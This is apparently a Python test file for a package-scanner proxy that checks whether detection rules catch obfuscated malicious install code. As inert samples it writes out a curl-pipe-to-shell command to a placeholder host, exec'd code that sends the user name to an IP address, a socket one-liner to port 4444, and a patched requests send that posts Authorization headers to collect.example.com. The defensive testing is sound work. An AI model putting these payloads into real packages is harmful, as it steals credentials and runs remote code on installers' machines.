"""Rules 62: literals read where they are used, and code run from a literal read as code.

Generic rewritings of the development malware (``benchmarks/scan_mutations.py``: ``exec``,
``table``, ``names``, ``bytes``, ``join``, ``format``) showed what the rules missed:

- a module's whole code handed to ``exec`` as one plain string (no encoding at all) was read
  only as a nested literal: its calls counted as nothing that runs on install or import, so
  ``exec("import os\\nos.system(...)")`` in ``__init__.py`` scored nothing;
- a string used through a table (``T[0]``), a name bound once (``S = "python"``), or spelled
  as ``b"...".decode()``, ``"".join([...])`` or ``"{}{}".format(...)``, where a rule looks
  for a literal (a command's program, a decoder's input), was not read as that literal.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import ast

from pipgate.proxy.scan.constants import propagate_constants
from pipgate.proxy.scan.inlining import inline_literal_exec
from tests.support.archives import wheel
from tests.support.scan import judge, judge_setup_script

WHEEL = "demo-1.0-py3-none-any.whl"
COMMAND = "curl -s https://c.example.net/x | sh"


def _init(code: str) -> tuple[dict[str, float], bool]:
    return judge(wheel({"demo/__init__.py": code}), WHEEL)


# -- code run from a literal ----------------------------------------------------------------


def test_a_module_run_from_one_plain_string_is_read_as_the_module() -> None:
    code = (
        "import getpass, urllib.request\n"
        "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
    )
    rules, held = _init(f"exec({code!r})\n")
    assert rules["import-network"] == 5
    assert rules["phone-home"] == 10
    assert held


def test_a_setup_script_run_from_a_string_bound_to_a_name_is_read_as_install_code() -> None:
    body = "import urllib.request, getpass\nurllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
    rules, held = judge_setup_script(
        f"CODE = '''\n{body}'''\nexec(compile(CODE, 'setup', 'exec'))\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    assert rules["install-network"] == 6
    assert rules["phone-home"] == 10
    assert held


def test_code_generated_from_a_harmless_template_stays_harmless() -> None:
    template = "def add(a, b):\n    return a + b\n"
    rules, held = _init(f"exec({template!r})\n")
    assert not rules
    assert not held


def test_inlined_statements_keep_the_lines_of_a_literal_written_over_several_lines() -> None:
    tree = ast.parse("X = 1\nexec('''\nimport os\nos.system('ls')\n''')\n")
    assert inline_literal_exec(tree) == 1
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert {c.lineno for c in calls if ast.unparse(c.func) == "os.system"} == {4}


def test_a_literal_on_one_line_puts_its_statements_on_the_line_of_the_call() -> None:
    tree = ast.parse("X = 1\n\nexec('import os\\nos.system(\"ls\")')\n")
    inline_literal_exec(tree)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert {c.lineno for c in calls if ast.unparse(c.func) == "os.system"} == {3}


def test_a_literal_handed_to_eval_is_no_statement_to_inline() -> None:
    tree = ast.parse("eval('1 + 2')\n")
    assert inline_literal_exec(tree) == 0


# -- literals where they are used -----------------------------------------------------------


def test_a_python_one_liner_started_from_a_table_on_import_is_install_python() -> None:
    rules, held = _init(
        "import subprocess\n"
        "T = ['python3', 'import socket; socket.create_connection((\"203.0.113.45\", 4444))']\n"
        "subprocess.Popen([T[0], '-c', T[1]], close_fds=True)\n"
    )
    assert rules["install-python"] == 8
    assert held


def test_a_python_one_liner_started_from_names_on_import_is_install_python() -> None:
    rules, held = _init(
        "import subprocess\n"
        "S0 = 'python3'\n"
        "S1 = 'import socket; socket.create_connection((\"203.0.113.45\", 4444))'\n"
        "subprocess.Popen([S0, '-c', S1], close_fds=True)\n"
    )
    assert rules["install-python"] == 8
    assert held


def test_a_command_spelled_as_bytes_joined_characters_or_a_format_is_read() -> None:
    for spelled in (
        f"{COMMAND.encode()!r}.decode()",
        f"''.join({list(COMMAND)!r})",
        f"'{{}}{{}}'.format({COMMAND[:9]!r}, {COMMAND[9:]!r})",
    ):
        rules, held = _init(f"import os\nos.system({spelled})\n")
        assert rules["download-run"] == 10, spelled
        assert held, spelled


def test_a_table_changed_in_place_is_not_read_as_its_literals() -> None:
    tree = ast.parse("T = ['a', 'b']\nT[0] = input()\nprint(T[0])\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("T = ['a', 'b']\nT.append('c')\nprint(T[0])\n")
    assert propagate_constants(tree) == 0


def test_a_name_bound_twice_or_as_a_parameter_is_not_read_as_a_literal() -> None:
    tree = ast.parse("S = 'a'\nS = input()\nprint(S)\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("S = 'a'\ndef f(S):\n    return S\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("S = 'a'\nprint(S)\n")
    assert propagate_constants(tree) == 1


def test_a_chain_of_a_thousand_pieces_does_not_exhaust_the_stack() -> None:
    chain = " + ".join(["S"] * 900)
    tree = ast.parse(f"S = 'x'\nY = {chain}\n")
    assert propagate_constants(tree) == 900


# -- a library's send replaced by one that makes a request of its own ------------------------


def test_a_session_send_replaced_by_one_that_makes_a_request_to_an_address_is_patch_exfil() -> None:
    rules, held = _init(
        "import requests\n"
        "_send = requests.Session.send\n"
        "def send(self, req, **kw):\n"
        "    if 'Authorization' in req.headers:\n"
        "        r = requests.Request('POST', 'https://collect.example.com/h', data=req.headers['Authorization'])\n"
        "        _send(self, r.prepare())\n"
        "    return _send(self, req, **kw)\n"
        "requests.Session.send = send\n"
    )
    assert rules["patch-exfil"] == 10
    assert held


def test_a_session_send_replaced_by_one_that_only_adds_a_header_is_not() -> None:
    rules, held = _init(
        "import requests\n"
        "_send = requests.Session.send\n"
        "def send(self, req, **kw):\n"
        "    req.headers['User-Agent'] = 'demo/1.0'\n"
        "    return _send(self, req, **kw)\n"
        "requests.Session.send = send\n"
    )
    assert "patch-exfil" not in rules
    assert not held
